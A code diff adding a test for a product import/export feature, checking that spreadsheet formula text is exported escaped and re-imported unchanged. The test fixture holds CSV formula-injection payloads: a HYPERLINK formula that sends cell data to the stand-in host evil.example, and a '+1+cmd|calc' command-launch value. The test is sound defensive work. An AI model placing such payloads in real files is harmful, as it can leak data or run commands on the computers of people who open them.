@@ -149,6 +149,27 @@ describe('product import and export', () => {
     expect(fromXlsx.updated).toBe(0);
   });
 
+  it('exports text that a spreadsheet would run as a formula as text, and reads it back unchanged', async () => {
+    const evil = mrpRow({
+      'Product Name': `=HYPERLINK("http://evil.example/?"&A1,"Open ${uid()}")`,
+      Tagline: '+1+cmd|calc',
+      Description: '@SUM(1,2)',
+      Features: '-2+3',
+    });
+    const created = await check(csvOf([evil]));
+    expect(created.errors).toEqual([]);
+    expect((await apply(csvOf([evil]), created.checksum)).report?.created).toBe(1);
+
+    const { res, rows } = await exportCsv();
+    const exported = rows.find((r) => r.SKU === evil.SKU)!;
+    for (const header of ['Product Name', 'Tagline', 'Description', 'Features'])
+      expect(exported[header], header).toBe(`'${evil[header]}`);
+    const again = await check(res.rawPayload);
+    expect(again.errors).toEqual([]);
+    expect(again.outcomes.find((o) => o.sku === evil.SKU)).toMatchObject({ outcome: 'unchanged' });
+    expect((await bySku(evil.SKU))?.name).toBe(evil['Product Name']);
+  });
+
   it('dry run: says per row what would change, and every error with its row and column; writes nothing', async () => {
     const a = mrpRow();
     const b = goldRow();
